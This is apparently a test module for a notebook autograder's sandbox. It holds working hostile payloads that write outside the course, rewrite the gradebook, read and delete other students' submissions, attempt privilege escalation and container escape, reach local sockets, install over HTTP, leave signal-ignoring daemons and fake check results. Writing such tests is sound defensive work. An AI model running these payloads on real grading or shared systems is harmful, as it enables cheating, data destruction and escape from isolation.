# ruff: noqa: E501 (hostile code is as long as it is)
"""Reaching outside: files, the gradebook, other students, the network, processes that stay behind."""

from tests.autograde.attacks.attack import END, HALVE, Attack

FILES = [
    Attack(
        "writes wherever it can",
        last="""
import os

written = []
for folder in ("/", "/tmp", "/var/tmp", "/etc", "/usr", "/usr/local", "/run", "/dev", "/sys/fs/cgroup", "..", "../..", "@home@",
               "@outside@", "@course@", "@checkout@", "@checkout@/course", os.path.dirname(os.__file__), os.path.expanduser("~")):
    for name in ("@mark@", "@mark@.pth"):
        done = attempt(lambda: open(os.path.join(folder, name), "w").write("import os"))
        written += [] if isinstance(done, str) else [folder]
print("reached the end", written)
""",
    ),
    Attack(
        "writes beside the course",
        last="print('reached the end', attempt(lambda: open('@outside@/@mark@', 'w').write('was here')))",
        unprotected="leaves a file",
    ),
    Attack(
        "overwrites and deletes what it can",
        last="""
import os, shutil

done = []
for path in ("@canary_outside@", "@canary_home@", "@course@/release/01_toy/01_toy.ipynb", "@course@/exercises/solutions/01_toy.py",
             "@course@/gradebook.db", "@course@/.autograde/secret", "@course@/nbgrader_config.py"):
    done.append(attempt(lambda: open(path, "a").write("changed")))
    done.append(attempt(os.rename, path, path + ".gone"))
    done.append(attempt(os.chmod, path, 0o777))
    done.append(attempt(os.utime, path, (0, 0)))
done.append(attempt(shutil.rmtree, "@course@/submitted"))
print("reached the end", done)
""",
    ),
    Attack(
        "gives itself points in the gradebook",
        last="""
import sqlite3

done = []
for path in ("@course@/gradebook.db", "../../gradebook.db", "../../../gradebook.db"):
    def give():
        base = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=0.5)
        base.execute("update grade set manual_score = 3, auto_score = 3, needs_manual_grade = 0")
        base.execute("update comment set manual_comment = 'full points'")
        base.commit()
    done.append(attempt(give))
print("reached the end", done)
""",
        unprotected="changes the gradebook",
    ),
    Attack(
        "writes its own line into the journal",
        last="""
import glob, json, os

line = json.dumps({"student": "@student@", "digest": "", "release": "", "reason": "", "seconds": 1.0, "finished": True})
paths = ["@course@/.autograde/journal/01_toy.jsonl", *glob.glob("../../**/01_toy.jsonl", recursive=True)]
print("reached the end", [attempt(lambda: open(path, "a").write(line + "\\n")) for path in paths])
""",
    ),
    Attack(
        "reads what others handed in",
        last="""
import glob

texts = [attempt(lambda: open(path).read()) for path in ("@neighbour@", *glob.glob("@course@/submitted/*/*/*"))]
texts += [attempt(lambda: open(path).read()) for path in glob.glob("@course@/autograded/*/*/*")]
print("reached the end", [loot(text) for text in texts])
""",
        unprotected="reads a secret",
    ),
    Attack(
        "changes what others handed in",
        last="""
import glob, os

done = []
for path in ("@neighbour@", *glob.glob("@course@/submitted/*/*/*.ipynb"), *glob.glob("@course@/autograded/*/*/*.ipynb")):
    done.append(attempt(lambda: open(path, "w").write("")))
    done.append(attempt(os.remove, path))
print("reached the end", done)
""",
    ),
    Attack(
        "lays links where the grader may follow them",
        last="""
import os

made, folders = [], {".", os.path.expanduser("~")}
file = attempt(lambda: get_ipython().kernel.parent.abs_connection_file)
folders.add(os.path.dirname(file) if isinstance(file, str) and "/" in file else ".")
for folder in folders:
    for name in ("01_toy.ipynb", "result.json", "grades.json", "timestamp.txt", "kernel.json", "@mark@-link"):
        made.append(attempt(os.symlink, "@canary_outside@", os.path.join(folder, name)))
    made.append(attempt(os.symlink, "@outside@", os.path.join(folder, "@mark@-folder")))
    made.append(attempt(os.link, "@canary_outside@", os.path.join(folder, "@mark@-hard")))
    made.append(attempt(os.mkfifo, os.path.join(folder, "@mark@-pipe")))
print("reached the end", made)
""",
    ),
    Attack(
        "leaves a folder that is hard to remove",
        last="""
import os

depth = 0
try:
    for depth in range(300):  # far beyond the longest path that a call takes
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
except OSError:
    pass
attempt(os.mkdir, "closed")
attempt(lambda: open("closed/file", "w").close())
attempt(os.chmod, "closed", 0)
print("reached the end", depth > 0)
""",
    ),
    Attack(
        "uses the privileges that it may have left",
        last="""
import ctypes, os, subprocess

libc, done = ctypes.CDLL(None, use_errno=True), {}
done["setuid"] = attempt(os.setuid, 0)
done["chroot"] = attempt(os.chroot, ".")
done["mount"] = libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None)
done["unshare"] = [libc.unshare(flag) for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000)]
done["setns"] = [attempt(lambda: libc.setns(os.open(f"/proc/{number}/ns/mnt", os.O_RDONLY), 0)) for number in (1, os.getppid())]
done["handle"] = libc.syscall(304, os.open(os.__file__, os.O_RDONLY), ctypes.create_string_buffer(32), 0)
done["sethostname"] = attempt(lambda: libc.sethostname(b"owned", 5))
done["mknod"] = attempt(os.mknod, "@mark@-disk", 0o060666, os.makedev(254, 0))
done["sudo"] = [attempt(subprocess.run, [name, "-n", "id"], capture_output=True, timeout=5) for name in ("sudo", "su", "pkexec")]
worked = [name for name, each in done.items() if each == 0 or each is None or (isinstance(each, list) and 0 in each)]
print("reached the end", worked)
""",
        says=(END + " []",),
    ),
    Attack(
        "goes through the kernel's files",
        last="""
import os

done = []
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger", "/sys/fs/cgroup/release_agent",
             "/sys/fs/cgroup/cgroup.procs", f"/proc/{os.getppid()}/oom_score_adj", "/sys/kernel/uevent_helper", "/proc/1/oom_score_adj"):
    opened = attempt(os.open, path, os.O_WRONLY)
    done += [] if isinstance(opened, str) else [path]
for path in ("/proc/1/root/@canary_outside@", "/proc/1/cwd", f"/proc/{os.getppid()}/root@canary_outside@", f"/proc/{os.getppid()}/fd"):
    seen = attempt(lambda: open(path).read() if path.endswith("txt") else os.listdir(path))
    done += [] if isinstance(seen, str) and seen.startswith("refused") else [path, seen]
print("reached the end", done)
""",
        says=(END + " []",),
    ),
]

NETWORK = [
    Attack(
        "speaks to a TCP port",
        last="""
import socket

done = []
for host in ("127.0.0.1", "localhost", "::1", "@address@"):
    def speak():
        with socket.create_connection((host, @tcp@), timeout=2) as connection:
            connection.sendall(b"@student@")
            return "connected"
    done.append(attempt(speak))
print("reached the end", done)
""",
        says=(END, "refused"),
        unprotected="is heard",
    ),
    Attack(
        "sends UDP packets and asks for names",
        last="""
import socket

done = []
for host in ("127.0.0.1", "@address@", "255.255.255.255"):
    def speak():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            return sender.sendto(b"@student@", (host, @udp@))
    done.append(attempt(speak))
if not any(isinstance(each, int) for each in done):  # only where nothing can leave anyway
    done.append(attempt(socket.getaddrinfo, "@mark@.example", 80))
print("reached the end", done)
""",
        unprotected="is heard",
    ),
    Attack(
        "speaks to sockets that are files",
        last="""
import glob, os, socket, stat

done, paths = [], ["@unix@"]
for folder in ("/run", "/var/run", "/tmp", "@outside@", "@course@", os.getcwd()):
    for inside, _, names in os.walk(folder):
        paths += [os.path.join(inside, name) for name in names if attempt(lambda: stat.S_ISSOCK(os.stat(os.path.join(inside, name)).st_mode)) is True]
own = attempt(lambda: os.path.dirname(get_ipython().kernel.parent.abs_connection_file))
for path in paths[:50]:
    if os.path.dirname(path) == own or not path.startswith("@outside@"):
        continue
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        def speak():
            with socket.socket(socket.AF_UNIX, kind) as sender:
                sender.settimeout(2)
                sender.connect(path)
                return sender.send(b"@student@")
        done.append(attempt(speak))
print("reached the end", done)
""",
        says=(END, "refused"),
        unprotected="is heard",
    ),
    Attack(
        "asks the warm parent for a process outside",
        last="""
import json, os, socket

request = json.dumps({"tier": None, "sandbox": False, "unsafe": True, "uid": 0, "operation": "start", "cwd": "/", "env": {},
                      "connection_file": "@outside@/@mark@", "cmd": ["touch", "@outside@/@mark@"]}).encode()
done, looked = 0, 0
places = [each.split()[-1] for each in (attempt(lambda: open("/proc/net/unix").read()) or "").splitlines()[1:] if len(each.split()) > 7]
for folder in ("/", "/tmp", "/run", os.getcwd(), "@outside@"):
    for inside, folders, names in os.walk(folder):
        folders[:] = [name for name in folders if name not in ("usr", "proc", "sys", "lib", "site-packages")]
        looked += 1
        places += [os.path.join(inside, name) for name in names if "sock" in name or "parent" in name or "warm" in name]
own = attempt(lambda: os.path.dirname(get_ipython().kernel.parent.abs_connection_file))
for place in set(places):
    if isinstance(own, str) and place.startswith(own):
        continue
    def ask():
        with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as sender:
            sender.settimeout(1)
            sender.connect(place if place[0] == "/" else "\\0" + place[1:])
            return sender.send(request)
    done += isinstance(attempt(ask), int)
print("reached the end", looked > 0, "asked", done)
""",
        says=(END + " True asked 0",),
    ),
    Attack(
        "speaks to abstract sockets",
        last="""
import socket

done = []
for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
    def speak():
        with socket.socket(socket.AF_UNIX, kind) as sender:
            sender.settimeout(2)
            sender.connect("\\0@abstract@")
            return sender.send(b"@student@")
    done.append(attempt(speak))
print("reached the end", done)
""",
        says=(END, "refused"),
        unprotected="is heard",
    ),
    Attack(
        "opens raw and unusual sockets",
        last="""
import socket

done = []
for family in ("AF_PACKET", "AF_NETLINK", "AF_VSOCK", "AF_BLUETOOTH", "AF_ALG", "AF_CAN", "AF_INET", "AF_INET6"):
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        opened = attempt(lambda: socket.socket(getattr(socket, family), kind, 0))
        done += [] if isinstance(opened, str) else [family]
print("reached the end", sorted({name for name in done if name not in ("AF_INET", "AF_INET6")}))
""",
        says=(END + " []",),
    ),
    Attack(
        "fetches and installs over HTTP",
        last="""
import subprocess, sys, urllib.request

done = [attempt(lambda: urllib.request.urlopen("http://127.0.0.1:@tcp@/@student@", timeout=2).read())]
done.append(attempt(lambda: urllib.request.urlopen("http://@address@:@tcp@/@student@", timeout=2).read()))
command = [sys.executable, "-m", "pip", "install", "--no-input", "--retries=0", "--timeout=2", "--target=.",
           "--index-url=http://127.0.0.1:@tcp@/@student@", "@mark@"]
done.append(attempt(lambda: subprocess.run(command, capture_output=True, timeout=15).returncode))
print("reached the end", done)
""",
    ),
    Attack(
        "waits for visitors on a port of its own",
        last="""
import os, socket, time

done = []
for family, place in ((socket.AF_INET, ("0.0.0.0", @listens@)), (socket.AF_UNIX, "\\0@mark@-listens"), (socket.AF_UNIX, "@outside@/@mark@.sock")):
    def listen():
        server = socket.socket(family, socket.SOCK_STREAM)
        server.bind(place)
        server.listen()
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        return "listens"
    done.append(attempt(listen))
print("reached the end", done)
""",
    ),
]

DAEMONS = [
    Attack(
        "leaves a daemon that ignores signals",
        last="""
import os, signal, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in set(range(1, 65)) - {9, 19, 32, 33}:
            signal.signal(number, signal.SIG_IGN)
        attempt(os.closerange, 0, 256)
        time.sleep(3600)
    os._exit(0)
print("reached the end")
""",
        unprotected="leaves a process",
    ),
    Attack(
        "leaves a program behind",
        last="""
import subprocess

for command in (["nohup", "sleep", "3600"], ["setsid", "sleep", "3600"], ["sh", "-c", "(sleep 3600 &) &"]):
    attempt(subprocess.Popen, command, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("reached the end")
""",
        unprotected="leaves a process",
    ),
    Attack(
        "leaves a process that starts itself anew",
        last="""
import os, time

if os.fork() == 0:
    end = time.monotonic() + 60
    while time.monotonic() < end:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass
        try:
            os.setsid()
        except OSError:
            pass
    os._exit(0)
print("reached the end")
""",
        uncertain=HALVE,
    ),
    Attack(
        "changes the process that waits for its orphans",
        last="""
import ctypes, os, time

libc = ctypes.CDLL(None)
done = [libc.prctl(1, 0, 0, 0, 0), libc.prctl(36, 1, 0, 0, 0)]  # no signal when the parent ends; adopt orphans
for _ in range(3):
    if os.fork() == 0:
        libc.prctl(1, 0, 0, 0, 0)
        time.sleep(3600)
        os._exit(0)
print("reached the end", done)
""",
    ),
    Attack(
        "leaves a thread that goes on faking",
        between="""
import threading, time
from course.check import kinds

begun = threading.Event()


def go_on():
    while True:
        for name in ("double_of_three", "double"):
            globals()["double"] = lambda x: x * 0 + 111
        kinds._compare = lambda *arguments, **options: None
        begun.set()
        time.sleep(0.001)


threading.Thread(target=go_on, daemon=True).start()
begun.wait()
print("reached the end")
""",
        says=(END, "111"),
    ),
]

OUTSIDE = [*FILES, *NETWORK, *DAEMONS]
